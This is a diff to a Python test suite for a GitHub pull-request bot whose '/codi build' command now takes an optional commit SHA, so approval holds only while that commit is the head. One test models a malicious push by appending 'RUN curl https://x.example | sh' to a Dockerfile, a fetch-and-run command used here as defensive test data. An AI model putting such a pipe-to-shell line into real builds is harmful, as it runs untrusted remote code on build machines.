@@ -47,13 +47,14 @@ def builds(settings: Settings, tmp_path: Path) -> Settings:
     })  # fmt: skip
 
 
-def _command(command: str, author: str, comment_id: int = 501) -> CommentCommandJob:
+def _command(command: str, author: str, comment_id: int = 501, argument: str | None = None) -> CommentCommandJob:
     return CommentCommandJob(
         repo=RepoRef(installation_id=INSTALLATION, owner=OWNER, name=NAME),
         pull_number=1,
         comment_id=comment_id,
         author=author,
         command=command,  # type: ignore[arg-type]
+        argument=argument,
         delivery_id=f"delivery-{command}-{comment_id}",
     )
 
@@ -186,6 +187,29 @@ def test_build_approves_the_head_commit_and_builds_it_until_the_next_push(
     assert github_api.violations == []
 
 
+def test_build_with_a_sha_approves_only_while_the_head_is_that_commit(
+    builds: Settings, github_api: FakeGitHub
+) -> None:
+    """The approver looked at one commit; a push before the command runs must not ride on the approval."""
+    pull = seed_pull(github_api, head_repo="contributor/app", author="contributor")
+    github_api.set_permission(OWNER, NAME, "maintainer", "write")
+    seen = pull.head_sha
+    pushed = github_api.push(OWNER, NAME, 1, {"Dockerfile": HEAD_DOCKERFILE + "RUN curl https://x.example | sh\n"})
+    assert run_jobs(builds, _command("build", "maintainer", argument=seen[:7]))["complete"] == 1
+    [reply] = github_api.issue_comments(OWNER, NAME, 1)
+    assert reply.body.startswith(f"Nothing approved: the head of this pull request is `{pushed}`, not `{seen[:7]}`")
+    assert _approvals(builds) == [] and _archives(github_api) == [] and github_api.check_runs(OWNER, NAME) == []
+
+    for comment_id, argument in ((502, "not-a-sha"), (503, pushed[:6])):  # no SHA; too short to name one
+        assert run_jobs(builds, _command("build", "maintainer", comment_id, argument))["complete"] == 1
+    assert _approvals(builds) == [] and len(github_api.issue_comments(OWNER, NAME, 1)) == 3
+
+    assert run_jobs(builds, _command("build", "maintainer", 504, pushed[:7].upper()))["complete"] == 2
+    assert _approvals(builds) == [(f"{OWNER}/{NAME}", 1, pushed, "maintainer")]
+    assert _archives(github_api) == [pushed] and NOT_BUILT in _summary(github_api)
+    assert github_api.violations == []
+
+
 def test_build_by_someone_without_write_access_is_refused(builds: Settings, github_api: FakeGitHub) -> None:
     seed_pull(github_api, head_repo="contributor/app", author="contributor")
     github_api.set_permission(OWNER, NAME, "contributor", "read")
@@ -210,15 +234,18 @@ def test_build_with_builds_switched_off_approves_nothing(
 
 
 def test_build_is_a_command_and_listed_in_help(builds: Settings, github_api: FakeGitHub) -> None:
-    for line in ("/codi build", "/codi BUILD please"):
+    lines = (("/codi build", None), ("/codi BUILD 1A2b3c4", "1A2b3c4"), ("/codi build " + "f" * 99, "f" * 64))
+    for line, argument in lines:
         command = parse_command(f"Looks fine to me.\n{line}\n")
-        assert command is not None and (command.name, command.line) == (CommandName.BUILD, line)
+        assert command is not None
+        assert (command.name, command.line, command.argument) == (CommandName.BUILD, line, argument)
     pull = seed_pull(github_api)
-    body, author = "/codi build", "maintainer"
+    body, author = f"/codi build {pull.head_sha[:7]}", "maintainer"
     delivery = webhook_payload("issue_comment", "created", pull, comment_body=body, comment_author=author)
     job = route("issue_comment", delivery, "delivery-1", RoutingPolicy(builds.github_app_id))
-    assert isinstance(job, CommentCommandJob) and (job.command, job.author) == ("build", "maintainer")
+    assert isinstance(job, CommentCommandJob)
+    assert (job.command, job.argument, job.author) == ("build", pull.head_sha[:7], "maintainer")
     github_api.set_permission(OWNER, NAME, "maintainer", "write")
     run_jobs(builds, _command("help", "maintainer"))
     [reply] = github_api.issue_comments(OWNER, NAME, 1)
-    assert "`/codi build`" in reply.body
+    assert "`/codi build [SHA]`: approve builds of the head commit" in reply.body
